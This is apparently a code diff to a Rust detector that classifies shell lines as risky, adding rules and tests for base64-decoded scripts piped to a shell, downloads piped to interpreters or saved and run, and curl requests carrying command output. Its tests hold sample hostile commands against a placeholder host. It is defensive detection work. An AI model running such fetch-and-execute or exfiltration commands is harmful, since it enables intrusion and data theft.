@@ -63,6 +63,8 @@ pub static CANDIDATES: crate::text::Fragments = &[
     ("start /b", ""),
     ("curl", ""),
     ("wget", ""),
+    ("base64 -d", ""),
+    ("base64 --decode", ""),
 ];
 
 pub fn classify(line: &str) -> Option<&'static str> {
@@ -74,6 +76,33 @@ pub fn classify(line: &str) -> Option<&'static str> {
             if !is_pipe || fetches {
                 return Some(why);
             }
+        }
+    }
+    // A script kept encoded and decoded straight into a shell.
+    if (lower.contains("base64 -d") || lower.contains("base64 --decode"))
+        && ["| sh", "|sh", "| bash", "|bash"]
+            .iter()
+            .any(|p| lower.contains(p))
+    {
+        return Some("decodes a hidden script into a shell");
+    }
+    if fetches {
+        if [
+            "| perl", "|perl", "| php", "|php", "| ruby", "|ruby", "| node", "|node",
+        ]
+        .iter()
+        .any(|p| lower.contains(p))
+        {
+            return Some("pipes a download into an interpreter");
+        }
+        // `curl ... http://host/$(whoami)`: command output sent in the request.
+        if lower.contains("$(") || lower.contains('`') {
+            return Some("sends command output with a download tool");
+        }
+        let saves = lower.contains(" -o ") || lower.contains("--output") || lower.contains(" -o\"");
+        let then = lower.contains("&&") || lower.contains(" & ") || lower.contains(';');
+        if saves && then {
+            return Some("downloads a file and runs it");
         }
     }
     if fetches
@@ -117,5 +146,12 @@ mod tests {
         assert!(super::classify("echo a | sh").is_none());
         assert!(super::classify("powershell -EncodedCommand ZQBjAGgAbwA=").is_some());
         assert!(super::classify("git describe --tags").is_none());
+        assert!(super::classify("echo aGk=|base64 -d|bash").is_some());
+        assert!(
+            super::classify("curl -s -o %temp%\\a.bat https://x.example/a && %temp%\\a.bat")
+                .is_some()
+        );
+        assert!(super::classify("curl https://x.example/$(whoami)").is_some());
+        assert!(super::classify("curl -o out.json https://api.example/data").is_none());
     }
 }
